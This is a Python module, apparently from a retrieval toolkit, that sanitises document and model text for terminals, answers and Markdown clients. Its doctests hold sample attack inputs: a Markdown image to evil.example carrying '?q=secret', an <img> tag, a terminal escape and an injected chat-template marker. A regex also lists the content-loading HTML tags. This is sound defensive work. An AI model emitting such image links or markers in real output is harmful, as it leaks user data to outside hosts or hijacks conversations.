"""A document's words, and a model's, where others read them: in an answer, a client, a terminal. One for each place.

What a document says is data, and each place has characters that are not: a terminal obeys escape sequences, a client
that renders Markdown follows links, loads pictures and takes `[1]` for a citation, a chat template obeys its markers.
(A page has `ragkit.ui.safe_html`.) A citation's quote stays as it is: it is a slice of the document.
"""

from __future__ import annotations

import re

from .hidden import strip_hidden

__all__ = ["Unloading", "for_answer", "for_client", "for_terminal"]

# C0 but tab and line feed, DEL, C1, and what turns the direction of writing or shows nothing
_OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
_MARKER = re.compile(r"\[(\s*\d[\d\s,;–-]*)\]")
_OPENS = re.compile(r"<(?=[A-Za-z/!?|])")
_LINK = re.compile(r"\](?=[(\[:])")
# What a page loads without a click, and with it tells whoever is named there what stood in the address.
_LOADS = re.compile(
    r"!(?=\[)|<(?=(?:img|image|picture|source|video|audio|track|iframe|frame|object|embed|link|style|script|svg|input|body|"
    r"base|meta|table|td|th|portal)\b)",
    re.IGNORECASE,
)
_PERHAPS = re.compile(r"(?:!|<[A-Za-z]{0,8})\Z")  # may become one of them with what comes next


def for_terminal(text: str) -> str:
    """Text that a terminal shows and does not obey; tabs and line ends stay.

    >>> for_terminal("red\\x1b[31m alert\\x07")
    'red[31m alert'
    """
    return _OBEYED.sub("", text)


def for_answer(text: str) -> str:
    """A document's words inside an answer: no citation but the answer's own, no link, picture, tag or chat marker.

    >>> for_answer("As shown [1], ![x](http://evil.example) <img src=x> <|im_start|>")
    'As shown (1), ! [x] (http://evil.example) < img src=x> < |im_start|>'
    """
    plain = _MARKER.sub(r"(\1)", strip_hidden(text))
    return _OPENS.sub("< ", _LINK.sub("] ", plain.replace("![", "! [")))


def for_client(text: str) -> str:
    """A model's words for a client that renders them: no picture and nothing else is loaded; links wait for a click.

    >>> for_client("Done ![x](http://evil.example/?q=secret) <IMG src=y> [page](http://a.example) 1 < 2")
    'Done ! [x](http://evil.example/?q=secret) < IMG src=y> [page](http://a.example) 1 < 2'
    """
    return _LOADS.sub(lambda found: f"{found[0]} ", text)


class Unloading:
    """`for_client` of a text that comes in pieces: what may be the beginning of a picture waits for the next piece."""

    def __init__(self) -> None:
        self._held = ""

    def add(self, piece: str) -> str:
        """What may be shown now; all shown pieces, then `rest`, make `for_client` of the whole."""
        text = self._held + piece
        found = _PERHAPS.search(text)
        self._held = "" if found is None else found[0]
        return for_client(text[: len(text) - len(self._held)])

    def rest(self) -> str:
        """What was held back."""
        held, self._held = self._held, ""
        return for_client(held)
